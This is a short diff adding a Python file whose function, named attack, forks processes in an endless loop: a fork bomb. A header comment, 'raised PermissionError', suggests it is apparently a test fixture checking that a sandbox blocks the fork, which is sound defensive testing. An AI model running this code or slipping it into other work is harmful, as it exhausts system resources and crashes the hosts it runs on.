@@ -1,0 +1,7 @@
+# raised PermissionError
+import os
+
+
+def attack():
+    while True:
+        os.fork()
